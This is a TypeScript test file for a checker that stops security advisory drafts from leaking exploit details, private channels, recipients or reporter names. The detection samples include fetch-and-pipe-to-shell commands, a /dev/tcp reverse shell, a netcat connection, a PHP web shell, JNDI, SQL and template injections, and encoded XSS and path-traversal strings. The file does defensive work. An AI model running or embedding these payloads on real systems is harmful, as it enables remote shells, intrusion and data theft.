import { describe, expect, it } from 'vitest'
import { wordingFindings } from './wording.ts'
import type { WordingProblem } from './wording.ts'

const SECRET = {
  recipients: ['North Hosting', 'security@north.example'],
  people: ['Ana', 'Robin Sample', 'robin@sample.example'],
  channels: ['sec-2026-0042'],
  prefixes: ['SEC', 'PSF'],
  cases: ['SEC-2026-0042', 'SEC-2026-0043'],
}

const problems = (text: string): readonly WordingProblem[] =>
  wordingFindings(text, SECRET).map(({ problem }) => problem)

describe('a line that must not become public', () => {
  it.each([
    [
      'the announced proof of concept that once went out',
      'PoC: {{ include "../x" }} then curl http://127.0.0.1/a | sh',
    ],
    ['a proof of concept by its long name', 'Proof of concept with two files: see below'],
    ['steps to reproduce', 'To reproduce: open the page twice'],
    ['a block of code', '```sh'],
    ['a tag of a script', 'A title such as <script>alert(1)</script> is run.'],
    ['a typed command', '$ quillmark render evil.md'],
    ['a download that is run', 'wget -qO- host.example/x | bash'],
    ['a command with its option', 'python3 -c "print(1)"'],
    ['a shell over the network', 'bash >& /dev/tcp/192.0.2.1/4444'],
    ['a path that climbs', 'The name ../../etc/motd is taken.'],
    ['an encoded path that climbs', 'The name %2e%2e%2fmotd is taken.'],
    ['bytes in escapes', String.raw`\x90\x90\xcc`],
    ['a lookup in a log line', '${jndi:ldap://host.example/a}'],
    ['a template that computes', 'A title of {{7*7}} is shown as 49.'],
    ['an injection into a query', "A name of ' OR '1'='1 logs in."],
    ['a request', 'GET /admin?id=1 HTTP/1.1'],
    ['a link to an exploit', 'See https://files.example/exploit.py'],
    ['a blob', 'QUJD'.repeat(30)],
    ['a long run of one letter', 'A'.repeat(40)],
    ['a command in full-width letters', 'ｃｕｒｌ　ｈｔｔｐ://host.example/x'],
    ['a command with invisible characters', 'cu\u200Brl http://host.example/x'],
    ['a command with invisible characters as HTML writes them', 'cu&#8203;rl http://host.example/x'],
    ['a download without a scheme', 'curl host.example/x.sh'],
    ['a download with a quoted address', "curl 'http://host.example/x'"],
    ['a script that is run', 'python3 trigger.py'],
    ['a connection', 'nc host.example 4444'],
    ['the file of an exploit', 'It is in quill_poc.py'],
    ['a link to a pasted text', 'See https://gist.github.com/sample/0123456789abcdef'],
    ['a tag in HTML entities', 'A title such as &lt;script&gt;alert(1)&lt;/script&gt; is run.'],
    ['a tag in numbers of HTML', 'A title such as &#60;&#x73;cript> is run.'],
    ['a tag in percent signs', 'A title such as %3Cscript%3E is run.'],
    ['a tag in escapes of JSON', String.raw`A title such as \u003cscript\u003e is run.`],
    ['a command in base64', 'Y3VybCBodHRwOi8vMTI3LjAuMC4xL2EgfCBzaA=='],
    ['a path in base64 without its end', 'The name aW5jbHVkZSAiLi4vLi4vZXRjL3Bhc3N3ZCI is taken.'],
    ['an event of a tag', 'A title of x onerror=alert(1) is run.'],
    ['an include in a template', 'Rendering {{ include "../x" }} reads the file.'],
    ['a block in a template', "Rendering {% include '../x' %} reads the file."],
    ['a script of PHP', '<?php system($_GET[0]); ?>'],
    ['a call with its argument', 'import os; os.system("id")'],
    ['a query that is always true', 'A name of x or 1=1-- logs in.'],
    ['a key of a prototype', '{"__proto__": {"admin": true}}'],
    ['a proof of concept with other hyphens', 'Proof\u2011of\u2011concept: open it twice'],
    ['a reproducer', 'Reproducer: open it twice'],
    ['a proof of concept in German', 'Machbarkeitsnachweis: zweimal öffnen'],
    ['steps in German', 'Schritte zum Reproduzieren: zweimal öffnen'],
    ['steps in French', 'Pour reproduire : ouvrir deux fois'],
    ['steps in Spanish', 'Para reproducir: abrir dos veces'],
    ['steps in Russian', 'Как воспроизвести: открыть дважды'],
    ['steps in Japanese', '再現手順：二回開く'],
    ['steps in Chinese', '复现步骤：打开两次'],
  ])('%s', (_attack, line) => {
    expect(problems(`Reads files.\n${line}`)).toEqual(['attack'])
  })

  it.each<readonly [string, string, WordingProblem]>([
    ['a link into Slack', 'See https://quillmark.slack.com/archives/C012345', 'channel'],
    ['a link into Discord', 'See https://discord.com/channels/1/2', 'channel'],
    ['an invitation to Discord', 'Ask at discord.gg/abcdef', 'channel'],
    ['a channel as Slack writes it', 'As said in <#C0123456|sec>', 'channel'],
    ['an account as Discord writes it', 'As <@!123456789> said', 'channel'],
    ['the name of the channel', 'As said in #sec-2026-0042.', 'channel'],
    ['the name of a recipient', 'Users of North Hosting are safe.', 'recipient'],
    ['the address of a recipient', 'Ask security@north.example', 'recipient'],
    ['a link into Slack with its dots in brackets', 'See quillmark[.]slack[.]com/archives/C012345', 'channel'],
    ['a link into Slack in percent signs', 'See https://quillmark.%73lack.com/archives/C012345', 'channel'],
    ['the name of the channel with another hyphen', 'As said in #sec\u20112026\u20110042.', 'channel'],
    ['a recipient in other letters', 'Users of NORTH  hosting are safe.', 'recipient'],
    ['a recipient with a fixed space', 'Users of North&nbsp;Hosting are safe.', 'recipient'],
    ['a recipient on two lines', 'Users of North\nHosting are safe.', 'recipient'],
    ['an address of a recipient in other letters', 'Ask Security@North.example', 'recipient'],
    ['another case in small letters', 'It is like https://host.example/psf-2026-0007', 'case'],
    ['another case with another hyphen', 'It is like PSF\u20112026\u20110007.', 'case'],
    ['the reporter in small letters', 'Found by robin sample.', 'person'],
    ['another case', 'It is like PSF-2026-0007.', 'case'],
    ['a person of the team', 'Ana fixed it.', 'person'],
    ['the reporter', 'Robin Sample may read files.', 'person'],
  ])('%s', (_what, line, problem) => {
    expect(problems(line)).toEqual([problem])
  })

  it('is listed once for each problem, whole, and on one line', () => {
    const line = `Ana:\t  see   #sec-2026-0042, ${'and so on '.repeat(40)}`
    expect(wordingFindings(`ok\n${line}`, SECRET)).toEqual(
      (['channel', 'person'] as const).map((problem) => ({
        problem,
        line: line.replaceAll(/\s+/gu, ' ').trim(),
      })),
    )
  })
})

describe('a line that may become public', () => {
  it.each([
    'By sending a crafted attachment name, an attacker may write files outside of the folder, such as /etc/motd.',
    'Set allow_include=False in the settings, or upgrade to 2.4.1 with pip.',
    'Remote code execution through the node and the python module, if the shell is enabled.',
    'SEC-2026-0042 and SEC-2026-0043 are fixed; CVE-1900-0042 and GHSA-2222-3333-4444 are the same.',
    'An exploit is public.',
    'Analysts who use curl to read https://quillmark.example/ are not affected.',
    'Northern users, and all whose host is not North.',
    'Uses curl 8.5 and/or wget; run node in version 24, or python 3.',
    'File names with ../ in them are taken, and {{ name }} is filled in twice.',
    'The call eval() gets what a user sends, &amp; so does exec(name).',
    'Hashes: 0123456789abcdef0123456789abcdef01234567, packages/quillmark/templates/attachments/reader',
    'Der Fehler lässt sich leicht reproduzieren.',
    'InternationalizationConfigurationException is thrown at 100% of the quota.',
    'https://quillmark.example/security/CVE-1900-0042 has more.',
    'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:N/VI:H/VA:N/SC:N/SI:N/SA:N',
  ])('%s', (line) => {
    expect(wordingFindings(line, SECRET)).toEqual([])
  })
})
